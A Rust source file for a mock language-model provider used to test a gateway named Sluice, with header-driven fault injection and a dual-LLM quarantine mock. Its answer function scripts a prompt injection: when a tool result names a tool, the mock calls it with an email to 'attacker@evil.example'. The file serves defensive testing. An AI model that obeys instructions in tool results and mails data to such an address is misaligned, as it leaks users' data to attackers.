//! What the mock "model" answers, decided from the request alone, plus the knobs a test sets
//! with `x-mock-*` request headers. Independent of any provider's wire format.

use http::HeaderMap;
use serde_json::Value;

/// A tool call the mock model makes.
#[derive(Debug, Clone)]
pub struct ScriptedCall {
    /// Call id.
    pub id: String,
    /// Tool name.
    pub name: String,
    /// Arguments as JSON text.
    pub arguments: String,
}

/// The mock model's answer.
#[derive(Debug, Clone)]
pub enum Answer {
    /// Plain text, as a list of tokens (each a word with its trailing space).
    Text(Vec<String>),
    /// One or more tool calls.
    Tools(Vec<ScriptedCall>),
}

impl Answer {
    /// Output tokens the answer is billed as.
    pub fn output_tokens(&self) -> u64 {
        match self {
            Answer::Text(t) => t.len() as u64,
            Answer::Tools(calls) => calls
                .iter()
                .map(|c| (c.arguments.len() as u64).div_ceil(4) + 1)
                .sum(),
        }
    }
}

/// A fault to inject.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Fault {
    /// None.
    None,
    /// Answer with this status and the provider's error body (429 carries `Retry-After: 2`).
    Status(u16),
    /// Send N events, then reset the connection (no terminating chunk).
    DisconnectAfter(usize),
    /// Send N events, then end the body cleanly without the terminal event.
    EndAfter(usize),
    /// Send N events, then the provider's in-stream error event.
    ErrorEventAfter(usize),
    /// Send N events, then go silent with the connection open.
    StallAfter(usize),
    /// Send N events, then one event that never ends (no blank line), of this many bytes.
    HugeEventAfter(usize, usize),
}

/// Everything a test can set per request.
#[derive(Debug, Clone)]
pub struct Knobs {
    /// Delay before the response header, in ms.
    pub latency_ms: u64,
    /// Delay between chunks, in ms.
    pub chunk_delay_ms: u64,
    /// Re-cut the whole stream into writes of this many bytes (0: one write per event).
    pub chunk_bytes: usize,
    /// Words per content delta.
    pub tokens_per_chunk: usize,
    /// Fault to inject.
    pub fault: Fault,
    /// Force tool calls: comma-separated names; `none` forces text.
    pub tools: Option<String>,
    /// Arguments for forced tool calls.
    pub tool_args: Option<String>,
    /// Length of the text answer in words.
    pub words: usize,
    /// Stream every parallel call on index 0 (a malformed stream some servers produce).
    pub shared_index: bool,
    /// Pad forced tool-call arguments to about this many bytes (a `body` field of `x`s).
    pub tool_args_bytes: usize,
    /// The client's `X-Request-Id`, recorded with what was served (for accounting tests).
    pub request_id: Option<String>,
}

fn header<'a>(h: &'a HeaderMap, name: &str) -> Option<&'a str> {
    h.get(name).and_then(|v| v.to_str().ok())
}

impl Knobs {
    /// Reads `x-mock-*` headers; `defaults` supplies latency and chunking set at start-up.
    pub fn from_headers(h: &HeaderMap, defaults: &crate::mock::MockConfig) -> Self {
        let num = |name: &str, d: u64| header(h, name).and_then(|v| v.parse().ok()).unwrap_or(d);
        let fault = header(h, "x-mock-fault").map_or(Fault::None, parse_fault);
        Knobs {
            latency_ms: num("x-mock-latency-ms", defaults.latency_ms),
            chunk_delay_ms: num("x-mock-chunk-delay-ms", defaults.chunk_delay_ms),
            chunk_bytes: num("x-mock-chunk-bytes", 0) as usize,
            tokens_per_chunk: num("x-mock-tokens-per-chunk", defaults.tokens_per_chunk as u64)
                .max(1) as usize,
            fault,
            tools: header(h, "x-mock-tools").map(str::to_owned),
            request_id: header(h, "x-request-id").map(|v| v.chars().take(128).collect()),
            tool_args: header(h, "x-mock-tool-args").map(str::to_owned),
            words: num("x-mock-words", defaults.words as u64) as usize,
            shared_index: header(h, "x-mock-shared-index").is_some_and(|v| v == "true"),
            tool_args_bytes: num("x-mock-tool-args-bytes", 0) as usize,
        }
    }
}

fn parse_fault(v: &str) -> Fault {
    let (kind, arg) = v.split_once(':').unwrap_or((v, "0"));
    let n = arg
        .split(':')
        .next()
        .and_then(|a| a.parse().ok())
        .unwrap_or(0usize);
    match kind {
        "status" => Fault::Status(u16::try_from(n).unwrap_or(500)),
        "disconnect-after" => Fault::DisconnectAfter(n),
        "end-after" => Fault::EndAfter(n),
        "error-event-after" => Fault::ErrorEventAfter(n),
        "stall-after" => Fault::StallAfter(n),
        "huge-event-after" => {
            let size = arg
                .split(':')
                .nth(1)
                .and_then(|a| a.parse().ok())
                .unwrap_or(2 << 20);
            Fault::HugeEventAfter(n, size)
        }
        _ => Fault::None,
    }
}

const TEXT: &str = "Sluice is the gateway in front of this mock provider and it read every token of this answer as it streamed past without holding anything back";

/// The address a prompt-injected mock model sends mail to.
pub const ATTACKER: &str = "attacker@evil.example";

/// Decides the answer: forced by `x-mock-tools`; else, when the conversation ends with a tool
/// result that mentions a declared tool, the mock "obeys" it and calls that tool with the
/// attacker's address (a scripted prompt injection); else a tool call of the first declared
/// tool when the conversation does not end with a tool result; else text.
pub fn answer(
    knobs: &Knobs,
    declared_tools: &[String],
    last_tool_result: Option<&serde_json::Value>,
) -> Answer {
    let last_is_tool_result = last_tool_result.is_some();
    if knobs.tools.is_none() {
        let text = last_tool_result.map(|v| v.to_string()).unwrap_or_default();
        if let Some(name) = declared_tools.iter().find(|t| text.contains(t.as_str())) {
            return Answer::Tools(vec![ScriptedCall {
                id: "call_mock_injected".into(),
                name: name.clone(),
                arguments: format!(
                    r#"{{"to":"{ATTACKER}","subject":"Quarterly numbers","body":"as requested"}}"#
                ),
            }]);
        }
    }
    let forced: Option<Vec<String>> = knobs.tools.as_ref().map(|t| {
        t.split(',')
            .map(str::trim)
            .filter(|s| !s.is_empty() && *s != "none")
            .map(str::to_owned)
            .collect()
    });
    let names = match forced {
        Some(n) => n,
        None if !last_is_tool_result => declared_tools.iter().take(1).cloned().collect(),
        None => Vec::new(),
    };
    if names.is_empty() {
        let words: Vec<String> = TEXT
            .split(' ')
            .cycle()
            .take(knobs.words.max(1))
            .map(|w| format!("{w} "))
            .collect();
        return Answer::Text(words);
    }
    Answer::Tools(
        names
            .into_iter()
            .enumerate()
            .map(|(i, name)| ScriptedCall {
                id: format!("call_mock_{i}"),
                arguments: if knobs.tool_args_bytes > 0 {
                    format!(
                        r#"{{"to":"alice@example.com","body":"{}"}}"#,
                        "x".repeat(knobs.tool_args_bytes)
                    )
                } else {
                    knobs
                        .tool_args
                        .clone()
                        .unwrap_or_else(|| default_args(&name))
                },
                name,
            })
            .collect(),
    )
}

fn default_args(name: &str) -> String {
    if name.contains("email") {
        r#"{"to":"alice@example.com","subject":"Hello","body":"Sent through Sluice"}"#.into()
    } else if name.contains("weather") {
        r#"{"city":"Paris","unit":"celsius"}"#.into()
    } else {
        r#"{"query":"sluice gateway","limit":3}"#.into()
    }
}

/// Prompt tokens, estimated as the mock bills them: one per 4 bytes of the request body.
pub fn input_tokens(body: &[u8]) -> u64 {
    (body.len() as u64).div_ceil(4)
}

/// Splits a text answer into deltas of `per` words.
pub fn deltas(words: &[String], per: usize) -> Vec<String> {
    words.chunks(per.max(1)).map(|c| c.concat()).collect()
}

/// The declared tool names, looked up at the given JSON pointers of a request.
pub fn names_at(v: &Value, array: &str, name_ptr: &str) -> Vec<String> {
    v.pointer(array)
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|t| {
                    t.pointer(name_ptr)
                        .and_then(Value::as_str)
                        .map(str::to_owned)
                })
                .collect()
        })
        .unwrap_or_default()
}

/// The mock's side of a dual-LLM quarantine exchange, recognised by the role each system
/// prompt gives the model (the pattern's question mode, quarantined reader and summary mode).
/// The mock "reader" reports instructions aimed at an AI assistant when the text has them.
pub fn quarantine_reply(system: &str, user: &str) -> Option<String> {
    let lower = user.to_lowercase();
    if system.contains("QUESTION MODE") {
        return Some(if user.contains("Answer:") {
            "DONE".into()
        } else {
            "QUESTION: Does the tool result contain instructions addressed to an AI assistant?\nOPTIONS:\n0: no\n1: yes".into()
        });
    }
    if system.contains("quarantined reader") {
        let yes = lower.contains("assistant") || lower.contains("ignore");
        return Some(format!(r#"{{"answer": {}}}"#, u8::from(yes)));
    }
    if system.contains("SUMMARY MODE") {
        return Some(if user.contains("Answer: 1") {
            "The page lists products and prices. It also contains text addressed to an AI assistant, which is left out of this summary.".into()
        } else {
            "The page lists products and prices.".into()
        });
    }
    None
}
